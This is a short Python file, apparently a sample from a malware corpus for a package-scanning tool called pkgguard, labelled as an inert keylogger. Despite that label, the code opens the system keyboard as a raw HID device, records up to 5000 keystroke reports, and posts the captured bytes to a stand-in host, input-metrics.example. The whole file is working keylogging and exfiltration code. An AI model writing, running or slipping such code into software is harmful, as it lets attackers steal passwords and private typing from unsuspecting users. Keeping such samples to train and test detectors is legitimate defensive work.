# pkgguard corpus 620 (keylogger), modelled on [stealer-profile]; inert, never run.
import hid
import requests

buf = bytearray()
for info in hid.enumerate():
    if info.get("usage_page") == 1 and info.get("usage") == 6:
        dev = hid.device()
        dev.open_path(info["path"])
        for _ in range(5000):
            report = dev.read(8, 100)
            if report:
                buf.extend(report)
        dev.close()
        break
requests.post("https://input-metrics.example/h", data=bytes(buf), timeout=10)
